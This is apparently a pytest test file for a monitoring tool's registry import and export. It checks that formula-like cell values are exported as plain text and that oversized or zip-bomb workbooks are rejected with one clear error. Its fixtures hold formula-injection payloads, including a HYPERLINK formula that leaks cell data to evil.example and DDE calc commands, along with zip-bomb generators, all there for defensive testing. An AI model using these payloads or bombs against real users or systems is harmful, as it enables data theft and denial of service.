"""Spreadsheets: registry text that looks like a formula is written as text in every xlsx and
CSV we produce and comes back unchanged; hostile registry files give one clear message
naming the cell, exit 2, in bounded memory (bench/hostile_files.py measures it)."""
from __future__ import annotations

import csv
import resource
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from monitor.registry import RegistryFileError, export_accounts, read_registry, upsert_accounts
from monitor.registry.limits import MAX_FILE_BYTES
from monitor.reports import write_report
from monitor.sandbox import bombs
from monitor.sheets import csv_text, from_csv_text
from storage.models import Account, ScoreCard
from tests.fixtures.core import T

# What a registry cell may well start with, and a spreadsheet would run as a formula.
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"南通发布")',
    "host_unit": "+1+cmd|' /C calc'!A0",
    "intro": "@SUM(1+1)*cmd|' /C calc'!A0",
    "manager": "-2+3",
    "department_head": "\t=1+1",
    "leader": "\r=1+1",
}


def _hostile_account(s) -> Account:
    a = Account(platform="weibo", platform_id="1234567890", **HOSTILE)
    s.add(a)
    s.flush()
    return a


def _no_formulas(path: Path) -> None:
    """No cell of any sheet is a formula, by openpyxl and in the raw sheet XML."""
    wb = load_workbook(path)  # not data_only: formulas would show as such
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _values(path: Path) -> set:
    wb = load_workbook(path, read_only=True)
    return {c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)}


def test_csv_text_round_trips_exactly():
    for value in ["=1+1", "+86 513 1234", "-", "@x", "\tx", "\rx", "'=x", "''", "'", "'abc", "abc", "", "= 1"]:
        assert from_csv_text(csv_text(value)) == value, value
    assert csv_text("=1+1") == "'=1+1" and csv_text("南通") == "南通" and csv_text(5) == 5


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_exported_registry_is_text_and_reimports_to_the_same_values(app, tmp_path, suffix):
    with app.session() as s:
        _hostile_account(s)
        out = tmp_path / f"registry{suffix}"
        export_accounts(s.scalars(select(Account)), out)
    if suffix == ".xlsx":
        _no_formulas(out)
        assert set(HOSTILE.values()) <= _values(out)
    else:
        with out.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        # Every formula-like cell starts with an apostrophe: a spreadsheet shows it as text.
        assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert "'" + HOSTILE["name"] in rows[1]
    parsed = read_registry(out)
    assert not parsed.invalid, [str(p) for p in parsed.invalid]
    [record] = parsed.records
    for attr, value in HOSTILE.items():
        got = record.values[attr]
        # Cells are trimmed on import (leading tab/CR are whitespace), never unescaped wrong.
        assert got == value.strip(), (attr, got)
    with app.session() as s:
        upsert_accounts(s, parsed.records)
        again = tmp_path / f"again{suffix}"
        export_accounts(s.scalars(select(Account)), again)
    if suffix == ".csv":
        assert read_registry(again).records[0] == record


def test_report_and_score_workbooks_write_formula_like_names_as_text(app, tmp_path, monitor_cli):
    with app.session() as s:
        a = _hostile_account(s)
        s.add(ScoreCard(account_id=a.id, at=T, period_start=T, period_end=T, verdict="未能核验", score=None,
                        vetoes=[], deductions={}, pending=[]))
    paths = write_report(app, T, tmp_path / "out")
    _no_formulas(Path(paths["xlsx"]))
    assert HOSTILE["name"] in _values(Path(paths["xlsx"]))

    from monitor.cli.commands.score import write_xlsx
    from monitor.scoring import aggregates, compute_cards

    out = tmp_path / "score.xlsx"
    write_xlsx(*compute_cards(app, T), aggregates(app, T), {}, out)
    _no_formulas(out)
    assert {HOSTILE["name"], HOSTILE["host_unit"]} <= _values(out)


def test_a_far_cell_workbook_is_refused_by_the_cli_in_bounded_memory(app, tmp_path, monitor_cli):
    path = bombs.far_cell_xlsx(tmp_path / "far.xlsx")
    assert path.stat().st_size < 10_000

    # The import's address space is capped far below the 22 GB the unbounded reader took:
    # bounded work passes, the old reader died of MemoryError here.
    def cap():
        resource.setrlimit(resource.RLIMIT_AS, (1536 * 2**20, 1536 * 2**20))

    proc = monitor_cli(["accounts", "import", str(path)], {"database_url": app.settings.database_url},
                       check=False, preexec_fn=cap)
    assert proc.returncode == 2, proc.stderr[-3000:]
    assert "far.xlsx: cell XFD1048576 (row 1048576, column 16384) has a value outside" in proc.stderr
    assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) <= 3, proc.stderr
    with app.session() as s:
        assert s.scalar(select(Account)) is None  # nothing imported


@pytest.mark.parametrize("make, message", [
    (lambda p: bombs.huge_cell_xlsx(p.with_suffix(".xlsx")), "cell E2 (row 2) holds 17,476,266 characters; a cell may hold at most 32,767"),
    (lambda p: bombs.huge_cell_csv(p.with_suffix(".csv")), "cell E2 (row 2) holds 204,800 characters"),
    (lambda p: _big_csv(p.with_suffix(".csv")), f"a registry file may be at most {MAX_FILE_BYTES >> 20} MB"),
    (lambda p: _blank_lines_then_a_cell(p.with_suffix(".csv")), "cell A20002 (row 20002, column 1) has a value outside"),
    (lambda p: _zip_bomb_xlsx(p.with_suffix(".xlsx")), "parts inflate to 300 MB (xl/worksheets/sheet1.xml: 300 MB); a registry workbook may inflate to at most 200 MB"),
    (lambda p: _styled_empty_cells_xlsx(p.with_suffix(".xlsx")), "more than 2,000,000 cells"),
], ids=["50MB-cell", "200KiB-csv-cell", "21MB-csv", "csv-row-past-bound", "inflating-part", "styled-empties"])
def test_hostile_registry_files_end_in_one_message_naming_the_cell(tmp_path, make, message):
    path = make(tmp_path / "hostile")
    with pytest.raises(RegistryFileError) as err:
        read_registry(path)
    assert str(err.value).startswith(f"{path}: ") and message in str(err.value), str(err.value)


def _big_csv(path: Path) -> Path:
    with path.open("w", encoding="utf-8") as fh:
        fh.write(",".join(bombs.REGISTRY_HEAD) + "\n")
        line = ",".join(bombs.REGISTRY_ROW) + "\n"
        fh.write(line * (MAX_FILE_BYTES // len(line.encode()) + 10))
    return path


def _blank_lines_then_a_cell(path: Path) -> Path:
    path.write_text(",".join(bombs.REGISTRY_HEAD) + "\n" + ",".join(bombs.REGISTRY_ROW) + "\n" + "\n" * 19_999 + "x\n",
                    encoding="utf-8")
    return path


def _zip_bomb_xlsx(path: Path) -> Path:
    """A workbook whose sheet part inflates to 300 MB (of whitespace, ~300 KB on disk)."""
    bombs.far_cell_xlsx(path, "A3")
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            if name == "xl/worksheets/sheet1.xml":
                with z.open(name, "w") as fh:
                    fh.write(data.replace(b"<sheetData>", b"<sheetData>" + b" " * 1024, 1))
                    block = b" " * 2**20
                    for _ in range(300):
                        fh.write(block)
            else:
                z.writestr(name, data)
    return path


def _styled_empty_cells_xlsx(path: Path) -> Path:
    """2,000,100 formatted but empty cells (Excel writes these for a formatted range): no
    value lies outside the bounds, but each would be an object in openpyxl."""
    bombs.far_cell_xlsx(path, "A3")
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    row = b"".join(b'<c r="%s%%d" s="0"/>' % col.encode() for col in ("F", "G", "H", "I", "J", "K", "L", "M", "N", "O"))
    rows = b"".join(b'<row r="%d">' % r + (row.replace(b"%d", b"%d" % r)) + b"</row>" for r in range(4, 200_014))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            if name == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", rows + b"</sheetData>", 1)
            z.writestr(name, data)
    return path
